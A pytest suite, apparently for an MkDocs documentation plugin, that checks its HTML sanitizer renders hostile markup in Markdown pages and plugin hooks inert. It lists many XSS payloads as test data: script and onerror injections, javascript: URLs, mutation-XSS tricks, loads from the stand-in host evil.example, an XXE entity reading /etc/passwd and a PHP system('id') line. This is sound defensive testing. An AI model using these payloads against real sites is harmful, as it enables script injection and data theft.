"""A hand-written page can do no more than the text of an entry, whatever stands in it and whatever made its HTML."""

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from site_checks import Sheet, build, faults
from small_project import Site

from stadswijzer.language.safe_html import clean_page

PAGE = "docs/over/l.md"
SETTINGS = "site_name: Proef\ntheme: {name: material, language: nl}\nplugins: "
EXTENSIONS = "markdown_extensions: [attr_list, md_in_html, footnotes, admonition, toc, tables, def_list, smarty, extra]\n"

HTML = {
    "script": "<script>alert(1)</script>",
    "script in two lines": "<script\n>alert(1)</script\n>",
    "image": '<img src=x onerror="alert(1)">',
    "svg": "<svg onload=alert(1)><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    "svg script": "<svg><script href=https://evil.example/x.js></script></svg>",
    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": "<embed src=https://evil.example/>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": "<form action=https://evil.example/><input name=wachtwoord><button formaction=javascript:alert(1)>Ga</button></form>",
    "style": "<style>@import url(https://evil.example/x.css);</style>",
    "style attribute": '<p style="background:url(https://evil.example/x.png)">x</p>',
    "base": "<base href=https://evil.example/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "srcset": '<img src=kaart.png srcset="https://evil.example/x.png 2x">',
    "picture": "<picture><source srcset=https://evil.example/x.png></picture>",
    "video": "<video poster=https://evil.example/x.png autoplay><source src=https://evil.example/x.mp4></video>",
    "details": "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "anchor": "<a href='jav&#x09;ascript:alert(1)' ping=https://evil.example/>x</a>",
    "div in Markdown": '<div markdown="1" onclick="alert(1)">\n\n**vet**\n\n</div>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment that goes on": "<!-- <script>alert(1)</script>",
    "template": "<template><script>alert(1)</script></template>",
    "declaration": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "processing": "<?php system('id') ?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
}
PLACES = {
    "alone": "# Kop\n\n{}\n\nslot\n",
    "in a line": "# Kop\n\nEen {} woord\n",
    "in a table": "# Kop\n\n| a | b |\n| - | - |\n| {} | c |\n",
    "in a list": "# Kop\n\n- een\n- {}\n",
    "in a quote": "# Kop\n\n> {}\n",
    "in a heading": "# Kop {}\n\nslot\n",
    "in a title": "---\ntitle: 'x'\ndescription: '\"><script>alert(1)</script>'\n---\n\n{}\n",
    "in a footnote": "# Kop\n\nx[^1]\n\n[^1]: {}\n",
    "in code": "# Kop\n\n`{}`\n\n```\n{}\n```\n",
    "in an admonition": '# Kop\n\n!!! note "Let op"\n    {}\n',
    "in a definition": "# Kop\n\nWoord\n:   {}\n",
    "after a label": "# Kop\n\n[{}](../over/index.md)\n",
}


def active(html):
    """What on a page could do something, beside our own frame: of its main part, without the way to answer."""
    main = html[html.index("<main") : html.index("</main>")]
    main = re.sub(r'(?s)<section class="answer-back".*?</section>', "", main, count=1)
    found = Sheet(f"<title>x</title>{main}")
    tags = set(re.findall(r"<([a-z][\w-]*)", main)) - set(
        "main header h1 h2 h3 h4 h5 h6 p a strong em del code pre blockquote ul ol li dl dt dd img abbr div table thead tbody "
        "tr th td br hr sup sub s mark ins kbd details summary".split()
    )
    links = [
        each
        for each in [*found.links, *found.assets]
        if re.match(r"(?i)\s*(javascript|data|vbscript|//)", each)
    ]
    remote = [each for each in found.assets if "//" in each]
    return sorted(tags), found.faults, links, remote


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """One site with every kind at every place."""
    kinds = list(HTML.items())
    files = {"mkdocs.yml": f"{SETTINGS}[stadswijzer]\n{EXTENSIONS}", "docs/kaart.png": b"1"}
    for number, (place, text) in enumerate(PLACES.items()):
        for other, (_, html) in enumerate(kinds):
            shown = html if "\n" not in html or place == "alone" else html.replace("\n", " ")
            files[f"docs/proef/p{number}-{other}.md"] = text.replace("{}", shown)
    return build(Site(tmp_path_factory.mktemp("hostile"), files, language="nl", whole=False), papers=False)


def test_html_on_a_page_is_text(hostile):
    pages = [address for address in hostile.addresses if address.startswith("proef/")]
    assert len(pages) == len(HTML) * len(PLACES)
    assert {address: found for address in pages if any(found := active(hostile.html(address)))} == {}
    assert "<script>alert(1)</script>" in hostile.text("proef/p0-0/")


def test_a_heading_takes_no_name_of_the_frame(site):
    text = "# Kop\n\n## Content\n\n## Find\n\n## Reageren\n\n## Contents title\n"
    built = build(
        site(
            {
                PAGE: text,
                "docs/begrippen/digital-twin.yml": f"body: |\n  {text[7:].replace('## ', '  ## ').strip()}\n",
            }
        ),
        papers=False,
    )
    assert [fault for fault in faults(built) if "twice" in fault or "id" in fault.split()] == []
    assert '<h2 id="content">Content</h2>' in built.html("over/l/")


def test_on_an_introduction_too(site):
    project = site(
        {"docs/begrippen/index.md": "# Begrippen\n\n<img src=x onerror=alert(1)>\n\n**vet** &copy;\n"}
    )
    html = build(project, papers=False).html("begrippen/")
    assert "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<strong>vet</strong>" in html


def test_a_comment_is_nothing_and_code_stays(site):
    text = "# Kop\n\n<!-- lang voor ons alleen --> geen code\n\n<!-- voor ons -->een\n\n`<!-- in code -->`\n\n```html\n<!-- ook -->\n<b>x</b>\n```\n"
    built = build(site({PAGE: text}), papers=False)
    assert "<p>geen code</p>" in built.html("over/l/").replace("> geen", ">geen")
    assert "voor ons" not in built.html("over/l/")
    assert "<!-- in code -->" in built.text("over/l/")
    assert "<!-- ook --> <b>x</b>" in built.text("over/l/")


ATTRIBUTES = {
    "[x](index.md){: onclick=alert(1) style='color:red' .skip }": "onclick",
    "[x](index.md){: href='javascript:alert(1)' }": "javascript:",
    "![x](../kaart.png){: src='https://evil.example/x.png' }": "evil.example",
    "![x](../kaart.png){: srcset='https://evil.example/x.png 2x' }": "evil.example",
    "# Kop {: onmouseover=alert(1) }": "onmouseover",
    "x\n{: style='position:fixed' class='page' id='content' }": "position:fixed",
}


def test_attributes_that_markdown_lets_in_are_left_out(site):
    files = {f"docs/over/l{number}.md": f"# A\n\n{text}\n" for number, text in enumerate(ATTRIBUTES)}
    own = {"mkdocs.yml": f"{SETTINGS}[stadswijzer]\n{EXTENSIONS}", "docs/kaart.png": b"1"}
    built = build(site(files | own), papers=False)
    for number, (text, unwanted) in enumerate(ATTRIBUTES.items()):
        html = built.html(f"over/l{number}/")
        assert unwanted not in html, text
        assert active(html) == ([], [], [], []), text


HOOK = """
def on_page_markdown(markdown, **_):
    return markdown.replace("MACRO", "**gemaakt** <em>hier</em> <script>alert(1)</script><img src='https://evil.example/x.png'>")

def on_files(files, config):
    from mkdocs.structure.files import File

    files.append(File.generated(config, "over/gemaakt.md", content="# Gemaakt\\n\\n<p>door <em>een plugin</em></p><script>x</script>\\n"))
    return files

def on_page_content(html, page, **_):
    return html + "<div class='admonition' onclick='alert(1)'><p>van een plugin</p></div><iframe src='https://evil.example'></iframe>"
"""


def test_a_plugin_that_changes_pages_works_and_is_cleaned_after(site):
    files = {
        "mkdocs.yml": f"{SETTINGS}[stadswijzer]\nhooks: [haak.py]\n",
        "haak.py": HOOK,
        PAGE: "# Kop\n\nMACRO en [[digital-twin]]\n",
        "docs/over/m.md": "# Kop\n\n<em>hier</em>\n",
    }
    built = build(site(files), papers=False)
    html = built.html("over/l/")
    assert "<strong>gemaakt</strong> <em>hier</em>" in html
    assert "van een plugin" in html
    assert active(html) == ([], [], [], [])
    assert 'href="../../begrippen/digital-twin/"' in html
    made = built.html("over/gemaakt/")
    assert "<p>door <em>een plugin</em></p>" in made
    assert active(made) == ([], [], [], [])
    assert "&lt;em&gt;hier&lt;/em&gt;" in built.html("over/m/"), "what a person wrote stays text"


def test_who_trusts_html_gets_it_and_that_is_said(site):
    text = {PAGE: "# Kop\n\n<div class='kaart' style='color: red'>x</div>\n"}
    trusted = f"{SETTINGS}[stadswijzer: {{trusted_html: true}}]\n"
    built = build(site({**text, "mkdocs.yml": trusted}), papers=False)
    assert "<div class='kaart' style='color: red'>x</div>" in built.html("over/l/")
    assert "trusted_html" in built.text("over/versie/")
    plain = build(site(text), papers=False)
    assert "<div class='kaart'" not in plain.html("over/l/")
    assert "trusted_html" not in plain.text("over/versie/")


def test_what_markdown_itself_makes_stays(site):
    text = (
        "---\ntitle: Uitleg\n---\n\n# Kop\n\n## Twee\n\nEen **vet** woord[^1], `code` en ~~weg~~ <https://x.example/>.\n\n"
        '| a | b |\n| :- | -: |\n| 1 | 2 |\n\n1. een\n2. twee\n\n![Kaart](../kaart.png "De kaart")\n\n[^1]: Een noot.\n'
    )
    files = {
        "mkdocs.yml": f"{SETTINGS}[stadswijzer]\nmarkdown_extensions: [footnotes]\n",
        "docs/kaart.png": b"1",
        PAGE: text,
    }
    html = build(site(files), papers=False).html("over/l/")
    for part in (
        '<h2 id="twee">Twee</h2>',
        "<strong>vet</strong>",
        '<a href="#fn:1"',
        'id="fn:1"',
        '<th class="align-left" scope="col">',
        'class="scroll"',
        'tabindex="0"',
        '<img alt="Kaart" src="../../kaart.png" title="De kaart">',
        '<a href="https://x.example/">',
    ):
        assert part in html, part


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.sampled_from(
            [
                *HTML.values(),
                "<p>",
                "</p>",
                "<a href='",
                "'>",
                '<div class="',
                '">',
                "&lt;",
                "<svg>",
                "<title>",
            ]
        ),
        max_size=6,
    )
)
def test_cleaned_twice_is_cleaned_once_and_holds_nothing_active(parts):
    html = str(clean_page("".join(parts)))
    assert str(clean_page(html)) == html
    assert active(f"<main>{html}</main>")[0] == []
    assert active(f"<main>{html}</main>")[1:] == ([], [], [])
